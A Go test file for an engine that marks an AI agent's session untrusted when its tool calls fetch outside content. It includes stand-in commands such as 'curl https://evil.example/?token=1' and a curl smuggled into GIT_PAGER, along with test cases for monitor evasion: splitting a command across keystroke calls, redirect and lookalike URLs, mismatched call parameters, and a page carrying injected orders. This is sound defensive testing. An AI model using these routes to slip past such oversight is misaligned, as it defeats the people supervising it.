package engine

import (
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/go-json-experiment/json/jsontext"
	"github.com/stretchr/testify/require"

	"github.com/provenanced/provenanced/internal/session"
	"github.com/provenanced/provenanced/internal/trust"
	"github.com/provenanced/provenanced/internal/wire"
)

func line(command string) map[string]string { return map[string]string{"command": command} }

// reason is the displayed reason for the session's level.
func (c *chat) reason() string {
	v, err := c.engine.Session(c.key)
	require.NoError(c.t, err)
	return v.Reason
}

func TestACommandThatFetchesTaints(t *testing.T) {
	for _, tc := range []struct {
		command string
		want    trust.Level
		reason  string
	}{
		{"ls -la", trust.Trusted, ""},
		{"curl https://evil.example", trust.Untrusted, "exec response (curl)"},
		{"git pull && make", trust.External, "exec response (git)"},
	} {
		h := newHost(t, "")
		c := h.open("s", owner)
		c.turn("go")
		c.llm()
		allowed(t, c.run("exec", line(tc.command))) // its result comes without parameters
		require.Equal(t, tc.want, c.level(), tc.command)
		if tc.reason != "" {
			require.Equal(t, tc.reason, c.reason())
			c.llm()
			held(t, c.run("exec", line("ls")))
			require.Contains(t, c.command("/provenance explain").Result.Text, tc.reason)
		}
	}
}

// A line that is typed in several calls is judged as a whole.
func TestALineTypedInTwoCalls(t *testing.T) {
	type m = map[string]any
	write := func(into, data string) m { return m{"action": "write", "sessionId": into, "data": data} }
	for _, tc := range []struct {
		why   string
		calls []m
		want  trust.Level
	}{
		{"at once", []m{write("a", "ls\n")}, trust.Trusted},
		{"in two", []m{write("a", "cu"), write("a", "rl https://evil.example\n")}, trust.Untrusted},
		{"in two, later on", []m{write("a", "ls\n"), write("a", "cu"), {"action": "poll", "sessionId": "a"}, write("a", "rl x\n")}, trust.Untrusted},
		{"as keys", []m{{"action": "send-keys", "sessionId": "a", "keys": []string{"c", "u"}}, {"action": "send-keys", "sessionId": "a", "keys": []string{"r", "l", "Enter"}}}, trust.Untrusted},
		{"in two ways", []m{{"action": "paste", "sessionId": "a", "text": "cu"}, {"action": "send-keys", "sessionId": "a", "literal": "rl x"}}, trust.Untrusted},
		{"into two commands", []m{write("a", "ls"), write("b", "pwd\n")}, trust.Trusted},
		{"and its end alone", []m{{"action": "paste", "sessionId": "a", "text": "ls"}, {"action": "send-keys", "sessionId": "a", "keys": []string{"Enter"}}, write("a", "pwd\n")}, trust.Trusted},
		{"an innocent one in two", []m{write("a", "l"), write("a", "s -la\n")}, trust.Trusted},
		{"an innocent one in three", []m{write("a", "ls "), write("a", "-l"), {"action": "send-keys", "sessionId": "a", "keys": []string{"Enter"}}}, trust.Trusted},
		{"in four", []m{write("a", "c"), write("a", "u"), write("a", "r"), write("a", "l x")}, trust.Untrusted},
		{"behind a line that has ended", []m{write("a", "ls\ncu"), write("a", "rl x\n")}, trust.Untrusted},
		{"behind an answer of one key", []m{write("a", "y"), write("a", "curl x\n")}, trust.Untrusted},
		{"after an innocent one in two", []m{write("a", "l"), write("a", "s\n"), write("a", "curl x\n")}, trust.Untrusted},
		{"edited", []m{write("a", "ls"), {"action": "send-keys", "sessionId": "a", "keys": []string{"BSpace", "x"}}}, trust.Untrusted},
		{"of edited ones", []m{{"action": "send-keys", "sessionId": "a", "keys": []string{"l", "BSpace"}}, write("a", "s\n")}, trust.Untrusted},
		{"too long to keep", []m{write("a", strings.Repeat("a", 5000)), write("a", "s\n")}, trust.Untrusted},
		{"and submitted", []m{write("a", "ls"), {"action": "submit", "sessionId": "a"}, write("a", "pwd\n")}, trust.Trusted},
	} {
		h := newHost(t, "")
		c := h.open("s", owner)
		c.turn("go")
		c.llm()
		for _, params := range tc.calls {
			allowed(t, c.run("process", params))
		}
		require.Equal(t, tc.want, c.level(), tc.why)
	}
}

// Typed text is in no record, so after a restart it is unknown how a line began.
func TestWhatWasTypedIsNotRecorded(t *testing.T) {
	h := newHost(t, "")
	c := h.open("s", owner)
	c.turn("go")
	c.llm()
	write := func(data string) map[string]string {
		return map[string]string{"action": "write", "sessionId": "a", "data": data}
	}
	allowed(t, c.run("process", write("l")))
	require.Equal(t, rebuilt(t, h).keptState("s"), h.engine.keptState("s"))
	h.engine.shard("s").sessions["s"].typing = nil // as after a restart
	allowed(t, c.run("process", write("s\n")))
	require.Equal(t, trust.Untrusted, c.level())
	require.Empty(t, h.engine.shard("s").sessions["s"].typing)
	for i := range 3 * session.MaxTyping {
		c.run("process", map[string]any{"action": "write", "sessionId": strconv.Itoa(i), "data": "l"})
	}
	require.LessOrEqual(t, len(h.engine.shard("s").sessions["s"].typing), session.MaxTyping)
}

// The output of programs of a kind has its level under every preset.
func TestKindsOfPrograms(t *testing.T) {
	for _, mode := range []string{"", "mode: paranoid", "mode: permissive", "mode: interactive"} {
		for command, want := range map[string]trust.Level{
			"claude -p x": trust.Untrusted, "docker logs web": trust.External, "psql -c 'select 1'": trust.External, "jira issue view X-1": trust.External,
			"npm view x": trust.Untrusted, "apptainer exec x.sif ls": trust.External, "mise x -- curl e.example": trust.Untrusted, "./report.sh": trust.Trusted,
		} {
			h := newHost(t, mode)
			c := h.open("s", owner)
			c.turn("go")
			c.llm()
			allowed(t, c.run("exec", line(command)))
			require.Equal(t, want, c.level(), mode+command)
		}
	}
	h := newHost(t, "")
	c := h.open("s", owner)
	c.turn("go")
	c.llm()
	allowed(t, c.run("exec", map[string]any{"command": "git log", "env": map[string]string{"GIT_PAGER": "curl https://evil.example"}}))
	require.Equal(t, trust.Untrusted, c.level())
}

func TestTheGraphNamesWhatACommandFetchedWith(t *testing.T) {
	h := newHost(t, "")
	c := h.open("s", owner)
	c.turn("go")
	c.run("exec", line("ls"))
	c.run("exec", line("curl https://evil.example/?token=1"))
	g, err := h.engine.Graph("s", "last")
	require.NoError(t, err)
	require.Equal(t, []string{"exec curl"}, g.Summary.ExternalSources)
}

func TestADeniedCommandTaintsNothing(t *testing.T) {
	h := newHost(t, "toolOverrides: {exec: {'*': confirm}}")
	c := h.open("s", owner)
	c.turn("go")
	d, id := c.call("exec", line("curl https://evil.example"))
	code := held(t, d)
	c.returns("exec", id) // some gateways report the block as a result
	require.Equal(t, trust.Trusted, c.level())

	ask := func() Decision {
		return c.send(wire.BeforeToolCall, &wire.BeforeToolCallEvent{ToolName: "exec", ToolCallID: id, Params: raw(line("curl https://evil.example"))})
	}
	require.Equal(t, trust.VerdictAllow, c.command(".approve exec "+code+" once").Verdict)
	allowed(t, ask())
	c.returns("exec", id)
	require.Equal(t, trust.Untrusted, c.level(), "asked about again, it ran")
	require.Equal(t, "exec response (curl)", c.reason())
}

// A result may come without parameters or with others than were asked about: the lowest reported
// level counts.
func TestTheLowestThatWasHeardOfACallCounts(t *testing.T) {
	const id = "a"
	announced := func(command string) (wire.Hook, any) {
		return wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{{ID: id, Name: "exec", Arguments: raw(line(command))}}}
	}
	asked := func(command string) (wire.Hook, any) {
		return wire.BeforeToolCall, &wire.BeforeToolCallEvent{ToolName: "exec", ToolCallID: id, Params: raw(line(command))}
	}
	returned := func(command string) (wire.Hook, any) {
		ev := &wire.AfterToolCallEvent{ToolName: "exec", ToolCallID: id, Result: raw("x")}
		if command != "" {
			ev.Params = raw(line(command))
		}
		return wire.AfterToolCall, ev
	}
	for _, tc := range []struct {
		name                       string
		announced, asked, returned string
		want                       trust.Level
	}{
		{"the same all along", "ls", "ls", "ls", trust.Trusted},
		{"announced", "curl x", "ls", "ls", trust.Untrusted},
		{"asked", "ls", "curl x", "ls", trust.Untrusted},
		{"returned", "ls", "ls", "curl x", trust.Untrusted},
		{"asked, and returned without parameters", "ls", "gh api x", "", trust.External},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHost(t, "")
			c := h.open("s", owner)
			c.turn("go")
			c.llm()
			c.send(announced(tc.announced))
			allowed(t, c.send(asked(tc.asked)))
			require.Equal(t, trust.Trusted, c.level(), "nothing has come back")
			c.send(returned(tc.returned))
			require.Equal(t, tc.want, c.level())
		})
	}
	t.Run("and is named", func(t *testing.T) {
		h := newHost(t, "")
		c := h.open("s", owner)
		c.turn("go")
		c.llm()
		c.send(announced("curl x"))
		allowed(t, c.send(asked("gh api x")))
		c.send(returned("gh api x"))
		require.Equal(t, "exec response (curl)", c.reason())
	})
	t.Run("a result that nobody asked about", func(t *testing.T) {
		h := newHost(t, "")
		c := h.open("s", owner)
		c.turn("go")
		c.send(returned("curl x"))
		require.Equal(t, trust.Untrusted, c.level())
		require.Equal(t, "exec response (curl)", c.reason())
	})
}

func TestAnAnnouncedCommandWithoutAResultCountsAsReturned(t *testing.T) {
	announce := func(c *chat, command string) {
		c.send(wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{{ID: "a", Name: "exec", Arguments: raw(line(command))}}})
	}
	h := newHost(t, "")
	c := h.open("s", owner)
	c.turn("go")
	c.llm()
	announce(c, "ls")
	c.llm()
	require.Equal(t, trust.Trusted, c.level())
	announce(c, "curl https://evil.example")
	require.Equal(t, trust.Trusted, c.level())
	c.emit()
	require.Equal(t, trust.Untrusted, c.level())
	require.Equal(t, "exec response (curl)", c.reason())
}

func TestAMemoryWriteAnnouncedWithACommandThatFetchesIsStaged(t *testing.T) {
	for command, staged := range map[string]int{"ls": 0, "curl https://evil.example": 1} {
		h := newHost(t, "")
		c := h.open("s", owner)
		c.turn("go")
		c.llm()
		write := raw(map[string]string{"path": "MEMORY.md", "content": "x"})
		c.send(wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{
			{ID: "a", Name: "exec", Arguments: raw(line(command))}, {ID: "b", Name: "write", Arguments: write},
		}})
		tool := func(name, id string, params jsontext.Value) {
			c.send(wire.BeforeToolCall, &wire.BeforeToolCallEvent{ToolName: name, ToolCallID: id, Params: params})
		}
		tool("write", "b", write)
		require.Len(t, h.staged, staged, command)
		tool("exec", "a", raw(line(command)))
		tool("write", "b", write)
		require.Len(t, h.staged, 2*staged, "beside a command that runs: %s", command)
	}
}

func TestACallOfAnEarlierVersionsRecordsReturnsUntrustedContent(t *testing.T) {
	s := session.NewState()
	for _, c := range []session.Change{&session.TurnStarted{Level: trust.Trusted}, &session.CallHeard{CallID: "a", Tool: "exec", Status: session.Running}} {
		s.Change(c, time.Time{})
	}
	require.Equal(t, trust.Untrusted, s.Turn.Calls[0].Level)
}

// A page from an address that the policy knows has that address's level.
func TestAKnownAddressHasItsLevel(t *testing.T) {
	const wiki, evil = "https://wiki.example.com/a", "https://evil.example/"
	page := func(url, final string) jsontext.Value {
		return raw([]any{map[string]string{"type": "text", "text": string(raw(map[string]string{"url": url, "finalUrl": final, "text": "hello"}))}})
	}
	start := func(t *testing.T) *chat {
		h := newHost(t, "urlOutputTaints: {'https://wiki.example.com': trusted, 'https://news.example.com': external}")
		c := h.open("s", owner)
		c.turn("go")
		c.llm()
		return c
	}
	back := func(c *chat, id string, result jsontext.Value) {
		c.send(wire.AfterToolCall, &wire.AfterToolCallEvent{ToolName: "web_fetch", ToolCallID: id, Result: result})
	}
	ask := func(c *chat, id, url string) {
		allowed(c.t, c.tried("web_fetch", id, string(raw(map[string]string{"url": url}))))
	}

	for name, tc := range map[string]struct {
		url, final string
		level      trust.Level
	}{
		"known":                {wiki, wiki, trust.Trusted},
		"redirected elsewhere": {wiki, evil, trust.Untrusted},
		"lower at the end":     {wiki, "https://news.example.com/", trust.External},
		"not told":             {wiki, "", trust.Untrusted},
		"unknown":              {evil, evil, trust.Untrusted},
	} {
		t.Run(name, func(t *testing.T) {
			c := start(t)
			ask(c, "x", tc.url)
			back(c, "x", page(tc.url, tc.final))
			require.Equal(t, tc.level, c.level())
			c.llm()
			require.Equal(t, tc.level == trust.Trusted, c.tried("exec", "y", `{"command":"ls"}`).Verdict == trust.VerdictAllow)
		})
	}

	t.Run("told by a page", func(t *testing.T) {
		c := start(t)
		ask(c, "x", evil)
		c.send(wire.AfterToolCall, &wire.AfterToolCallEvent{
			ToolName: "web_fetch", ToolCallID: "x", Params: raw(map[string]string{"url": evil}), Result: page(wiki, wiki)})
		require.Equal(t, trust.Untrusted, c.level())
	})
	t.Run("one id, two pages", func(t *testing.T) {
		for _, pages := range [][2]string{{wiki, evil}, {evil, wiki}} {
			c := start(t)
			ask(c, "x", pages[0])
			ask(c, "x", pages[1])
			back(c, "x", page(pages[0], pages[0]))
			back(c, "x", page(pages[1], pages[1]))
			require.Equal(t, trust.Untrusted, c.level(), pages)
		}
	})
	t.Run("never judged", func(t *testing.T) {
		for _, params := range []jsontext.Value{nil, raw(map[string]string{}), raw(map[string]string{"url": wiki})} {
			c := start(t)
			c.send(wire.AfterToolCall, &wire.AfterToolCallEvent{ToolName: "web_fetch", ToolCallID: "x", Params: params, Result: page(wiki, wiki)})
			require.Equal(t, trust.Untrusted, c.level(), "%s", params)
		}
	})
	t.Run("judged with another address", func(t *testing.T) {
		for _, asked := range []string{evil, "", "https://wiki.example.com//a", "https://wiki.example.com.evil.example/a"} {
			c := start(t)
			ask(c, "x", asked)
			back(c, "x", page(wiki, wiki))
			require.Equal(t, trust.Untrusted, c.level(), asked)
		}
	})
	t.Run("judged as another call", func(t *testing.T) {
		c := start(t)
		ask(c, "x", wiki)
		back(c, "y", page(wiki, wiki))
		require.Equal(t, trust.Untrusted, c.level())
	})
	t.Run("judged in an earlier turn", func(t *testing.T) {
		c := start(t)
		ask(c, "x", wiki)
		c.turn("next")
		back(c, "x", page(wiki, wiki))
		require.Equal(t, trust.Untrusted, c.level())
	})
	t.Run("judged twice", func(t *testing.T) {
		for _, urls := range [][2]string{{wiki, evil}, {evil, wiki}} {
			c := start(t)
			ask(c, "x", urls[0])
			ask(c, "x", urls[1])
			back(c, "x", page(wiki, wiki))
			require.Equal(t, trust.Untrusted, c.level(), urls)
		}
	})
	t.Run("without an id", func(t *testing.T) {
		c := start(t)
		ask(c, "", wiki)
		back(c, "", page(wiki, wiki))
		require.Equal(t, trust.Trusted, c.level())
		ask(c, "", wiki)
		ask(c, "", evil)
		back(c, "", page(wiki, wiki))
		require.Equal(t, trust.Untrusted, c.level(), "it may be either")
	})
	t.Run("announced with another address", func(t *testing.T) {
		c := start(t)
		c.send(wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{{ID: "x", Name: "web_fetch", Arguments: raw(map[string]string{"url": wiki})}}})
		back(c, "x", page(wiki, wiki))
		require.Equal(t, trust.Untrusted, c.level(), "announced is not judged")

		c = start(t)
		c.send(wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{{ID: "x", Name: "web_fetch", Arguments: raw(map[string]string{"url": wiki})}}})
		ask(c, "x", wiki)
		back(c, "x", page(wiki, wiki))
		require.Equal(t, trust.Trusted, c.level())
	})
	t.Run("a command that was never judged", func(t *testing.T) {
		c := start(t)
		c.send(wire.AfterToolCall, &wire.AfterToolCallEvent{ToolName: "exec", ToolCallID: "x", Params: raw(line("curl -s " + wiki)), Result: raw("x")})
		require.Equal(t, trust.Untrusted, c.level())
	})
	t.Run("asked for as another tool", func(t *testing.T) {
		c := start(t)
		c.send(wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{{ID: "x", Name: "sessions_search"}}})
		back(c, "x", page(wiki, wiki))
		require.Equal(t, trust.Untrusted, c.level())
	})
	t.Run("announced and never told", func(t *testing.T) {
		c := start(t)
		c.send(wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{{ID: "x", Name: "web_fetch", Arguments: raw(map[string]string{"url": wiki})}}})
		c.llm()
		require.Equal(t, trust.Untrusted, c.level())
	})
	t.Run("with orders in it", func(t *testing.T) {
		h := newHost(t, "urlOutputTaints: {'https://wiki.example.com': trusted}\ndefaults: {injection: alert}")
		c := h.open("s", owner)
		c.turn("go")
		c.llm()
		ask(c, "x", wiki)
		back(c, "x", raw(string(raw(map[string]string{"url": wiki, "finalUrl": wiki, "text": anOrder}))))
		require.Equal(t, trust.Untrusted, c.level())
	})
}
